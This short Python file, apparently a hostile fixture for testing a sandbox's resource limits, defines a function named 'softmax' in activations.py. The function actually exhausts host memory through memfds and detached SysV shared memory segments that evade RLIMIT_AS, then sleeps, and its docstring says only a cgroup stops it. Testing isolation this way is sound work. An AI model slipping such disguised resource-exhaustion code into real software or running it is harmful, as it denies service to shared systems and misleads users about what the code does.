"""softmax fills memory no mapping accounts for: memfds written with write() (never mapped,
so RLIMIT_AS does not see them; each under RLIMIT_FSIZE) and SysV shared memory segments
filled then detached, up to 3 GB, then waits. Only a limit on the whole tree (a cgroup) stops
it.

file: activations.py
may_lose: softmax
"""
import ctypes as _ctypes
import os as _os
import time as _time


def softmax(a):
    libc = _ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = _ctypes.c_void_p
    block = b"\x01" * 2**20
    kept = []
    for _ in range(100):
        kept.append(_os.memfd_create("dlfs-hostile-memfd"))
        for _ in range(15):
            _os.write(kept[-1], block)
    for _ in range(6):
        segment = libc.shmget(0, 256 * 2**20, 0o1000 | 0o600)
        address = libc.shmat(segment, None, 0)
        if address:
            _ctypes.memset(address, 1, 256 * 2**20)
            libc.shmdt(_ctypes.c_void_p(address))
    _time.sleep(60)
    return a
